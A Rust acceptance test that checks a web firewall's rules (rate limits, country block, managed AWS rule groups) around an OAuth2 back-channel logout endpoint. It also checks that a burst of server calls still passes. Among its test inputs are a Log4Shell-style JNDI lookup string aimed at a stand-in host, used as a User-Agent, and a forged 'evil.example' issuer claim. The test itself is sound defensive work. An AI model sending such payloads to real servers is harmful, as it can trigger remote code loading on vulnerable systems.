//! A burst of back-channel calls from where servers stand, through a web ACL with every rule that the provider can put into one.
// Figures, for who reads a run.
#![allow(clippy::print_stdout)]

use std::sync::atomic::{AtomicUsize, Ordering};

use serde_json::{Value, json};
use zt_acceptance_tests::members::Members;

/// Every limit, a country and every managed group of AWS that the local edge knows. Nothing only counts. The login's own limit is
/// below the burst: it is for people.
const EVERY_RULE: &str = r#"
  web_acl = {
    rate_limit       = 300
    auth_rate_limit  = 80
    path_rate_limits = { "/oauth2/" = 250, "/api/" = 50 }
    geo              = { block = ["KP"] }
    managed_groups = [
      { name = "AWSManagedRulesCommonRuleSet" },
      { name = "AWSManagedRulesKnownBadInputsRuleSet" },
      { name = "AWSManagedRulesSQLiRuleSet" },
      { name = "AWSManagedRulesAmazonIpReputationList" },
      { name = "AWSManagedRulesAnonymousIpList" },
      { name = "AWSManagedRulesBotControlRuleSet" },
    ]
  }
"#;
/// Of a hosting provider, by the local edge's lists.
const HOSTING: &str = "198.18.0.7";
/// Of nobody that a list names.
const CLEAN: &str = "203.0.113.9";
const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64)";
const BURST: usize = 90;

/// What the firewall says to a POST of these headers to a path that only people use. Without it the answer would be 401.
fn refused(members: &Members, what: &str, headers: Value) {
    let status = members.provider_calls("/api/echo", &json!({"sub": "somebody", "headers": headers}));
    assert_eq!(status, 403, "{what}");
}

/// Every rule is on: each of them alone refuses a call to where only people go.
fn every_rule_is_on(members: &Members) {
    let agent = |address: &str, agent: &str| json!({"x-local-viewer-address": address, "user-agent": agent});
    let passes = json!({"sub": "somebody", "headers": agent(CLEAN, BROWSER)});
    assert_eq!(members.provider_calls("/api/echo", &passes), 401);
    refused(members, "no User-Agent", json!({"x-local-viewer-address": CLEAN}));
    refused(members, "a hosting provider", agent(HOSTING, BROWSER));
    refused(members, "an anonymous address", agent("198.19.0.7", BROWSER));
    refused(members, "a bad reputation", agent("198.19.128.7", BROWSER));
    refused(members, "an HTTP library", agent(CLEAN, "python-requests/2.32"));
    refused(members, "an attack", agent(CLEAN, "${jndi:ldap://evil.example}"));
    let abroad = json!({"x-local-viewer-address": CLEAN, "user-agent": BROWSER, "x-local-viewer-country": "KP"});
    refused(members, "a country", abroad);
}

/// Checklist: K15, R11. The burst passes whole, from several connections at once; what it says holds; a rate limit remains.
#[test]
fn a_burst_of_the_back_channel_passes_every_rule() {
    let members = Members::with(EVERY_RULE);
    let (alice, bob) = (members.alice(), members.bob());
    every_rule_is_on(&members);
    let server = json!({"x-local-viewer-address": HOSTING, "x-local-viewer-country": "KP"});
    let provider = &members.cloud.endpoints.identity_provider;
    let next = AtomicUsize::new(0);
    std::thread::scope(|scope| {
        for _ in 0..4 {
            scope.spawn(|| {
                while let Some(number) = Some(next.fetch_add(1, Ordering::SeqCst)).filter(|number| *number < BURST) {
                    let about = match number {
                        45 => provider.subject.clone(),
                        _ => format!("nobody-{number}"),
                    };
                    let what = json!({"sub": about, "headers": server});
                    let status = members.provider_calls("/oauth2/backchannel-logout", &what);
                    assert_eq!(status, 200, "call {number} of the burst");
                }
            });
        }
    });
    let event = json!({
        "event": "https://schemas.openid.net/secevent/risc/event-type/account-disabled",
        "subject": { "format": "iss_sub", "iss": provider.issuer, "sub": "nobody" },
        "audience": format!("https://{}", members.host()),
        "url": members.url("/oauth2/events"),
        "headers": server,
    });
    let told = members.cloud.identity_provider("/events", &event);
    assert_eq!(told["answer"]["status"], 202, "{told}");
    members.ends(&alice);
    assert_eq!(members.status(&bob), 200);

    let what = json!({"sub": "nobody", "claims": {"iss": "https://evil.example"}, "headers": server});
    let limited = (BURST..=300).find(|_| members.provider_calls("/oauth2/backchannel-logout", &what) == 429);
    println!("{BURST} calls passed; the rate limit came at call {limited:?}");
    assert!(limited.is_some(), "no rate limit is left");
    assert_eq!(members.status(&bob), 200, "another address is not concerned");
    members.close();
}
